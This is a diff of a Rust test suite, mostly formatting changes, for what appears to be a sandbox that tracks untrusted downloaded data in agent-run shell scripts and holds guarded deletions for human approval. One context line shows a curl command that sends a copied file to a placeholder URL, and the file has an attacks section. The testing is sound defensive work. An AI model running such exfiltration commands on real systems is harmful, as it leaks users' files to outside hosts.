@@ -34,7 +34,11 @@ fn origins(a: &Arena, script: &str) -> Vec<String> {
     assert_eq!(v["exit_code"], 0, "{}", r.dump());
     v["label"]["origins"]
         .as_array()
-        .map(|o| o.iter().filter_map(|x| x.as_str().map(String::from)).collect())
+        .map(|o| {
+            o.iter()
+                .filter_map(|x| x.as_str().map(String::from))
+                .collect()
+        })
         .unwrap_or_default()
 }
 
@@ -82,7 +86,11 @@ fn benign(a: &Arena, script: &str, want: Option<&str>) -> Run {
 }
 
 fn ran_payload(a: &Arena, r: &Run) {
-    assert!(a.exists(PWNED), "control: the payload did not run:\n{}", r.dump());
+    assert!(
+        a.exists(PWNED),
+        "control: the payload did not run:\n{}",
+        r.dump()
+    );
 }
 
 // ==== attacks ===========================================================================
@@ -229,7 +237,8 @@ curl -s --data-binary @copy.txt {URL}/x"#,
 
 #[test]
 fn download_data_then_a_script_reads_it() {
-    let read = r#"python3 -c 'import json; print(json.load(open("data.json"))["items"][0]["name"])'"#;
+    let read =
+        r#"python3 -c 'import json; print(json.load(open("data.json"))["items"][0]["name"])'"#;
     let a = arena();
     benign(
         &a,
@@ -239,7 +248,10 @@ fn download_data_then_a_script_reads_it() {
     // Its output is untrusted, and so is its status: a deletion it guards needs
     // the human.
     let a = arena();
-    let o = origins(&a, &format!("curl -s {{URL}}/data.json -o data.json\n{read}"));
+    let o = origins(
+        &a,
+        &format!("curl -s {{URL}}/data.json -o data.json\n{read}"),
+    );
     assert!(downloaded(&o), "stdout not untrusted: {o:?}");
     let a = arena();
     refused(
@@ -281,7 +293,8 @@ fn a_program_reading_many_clean_files_next_to_a_download_stays_clean() {
     // Reading the project's own files (and the interpreter's) taints nothing, even
     // with a download in the same directory: its output and status stay clean.
     let a = arena();
-    let py = r#"python3 -c 'import glob; print(sum(len(open(f).read()) for f in glob.glob("d/*")))'"#;
+    let py =
+        r#"python3 -c 'import glob; print(sum(len(open(f).read()) for f in glob.glob("d/*")))'"#;
     let setup = "curl -s {URL}/data.json -o data.json\nmkdir -p d\nfor i in $(seq 50); do echo $i > d/f$i; done";
     let o = origins(&a, &format!("{setup}\n{py}"));
     assert!(!downloaded(&o), "tainted by a file it never read: {o:?}");
